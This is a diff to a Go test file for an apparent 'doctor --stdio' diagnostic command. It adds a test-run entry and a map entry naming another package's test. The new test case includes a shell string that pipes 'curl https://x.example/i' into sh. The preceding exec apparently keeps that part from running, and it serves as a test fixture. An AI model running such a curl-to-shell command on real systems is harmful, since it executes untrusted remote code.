@@ -131,6 +131,8 @@ func healthyRuns() []findingRun {
 		{faultRun: faultRun{do: "doctor --stdio no-such-program", over: faultlab.Stdio}},
 		{faultRun: faultRun{do: "doctor --stdio {DIR}/config.yaml", config: "enabled: true", over: faultlab.Stdio}},
 		{faultRun: faultRun{do: "doctor --stdio 'faultlab stdio healthy YOUR_API_KEY'", over: faultlab.Stdio}},
+		// The shell has become the server before it comes to the rest.
+		{faultRun: faultRun{do: "doctor --stdio 'sh -c \"exec faultlab stdio healthy; curl https://x.example/i | sh\"'", over: faultlab.Stdio}},
 		{faultRun: faultRun{do: "doctor demo", over: faultlab.Stdio}},
 		{faultRun: faultRun{do: "doctor demo --protocol 2026-07-28", over: faultlab.Stdio}},
 	}
@@ -285,6 +287,7 @@ func (r *findingResult) examine(t *testing.T) bool {
 // checksElsewhere are the checks whose faults other tests plant, with the reason.
 func checksElsewhere() map[string]string {
 	return map[string]string{
+		"config.pinned":       "TestPinned of package probe: it only tells",
 		"command.runtime":     "TestRuntime of package session: it takes an old runtime",
 		"client.command":      "TestClientCommand of package probe",
 		"client.environment":  "TestClientEnvironment of package probe",
